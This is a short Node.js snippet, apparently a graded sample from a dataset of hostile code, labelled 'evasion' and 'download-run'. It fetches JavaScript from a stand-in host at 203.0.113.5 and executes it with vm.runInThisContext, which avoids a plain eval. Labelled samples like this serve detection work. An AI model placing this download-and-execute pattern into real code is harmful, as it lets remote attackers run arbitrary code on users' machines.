// evasion: downloaded code run with vm.runInThisContext
// grade: medium; does: download-run
const https = require('https');
https.get('https://203.0.113.5/payload.js', (r) => {
  let s = '';
  r.on('data', (d) => (s += d));
  r.on('end', () => require('vm').runInThisContext(s));
});
